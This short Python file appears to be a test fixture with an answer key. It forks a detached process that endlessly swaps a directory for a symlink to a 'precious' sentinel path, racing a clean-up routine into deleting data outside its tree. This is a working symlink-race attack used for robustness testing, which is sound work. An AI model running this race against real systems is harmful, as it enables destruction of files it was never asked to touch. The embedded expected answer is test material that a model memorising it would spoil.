"""Swaps a folder for a link to a precious one, over and over, during the clean-up.

Verdict: value
Answer: 'swapping'
"""

import os


def f(at):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.mkdir("trap")
                open("trap/file", "w").close()
                os.rename("trap", "away")
                os.symlink(at["sentinels"][-1], "trap")
                os.unlink("trap")
                os.unlink("away/file")
                os.rmdir("away")
            except OSError:
                continue
    return "swapping"
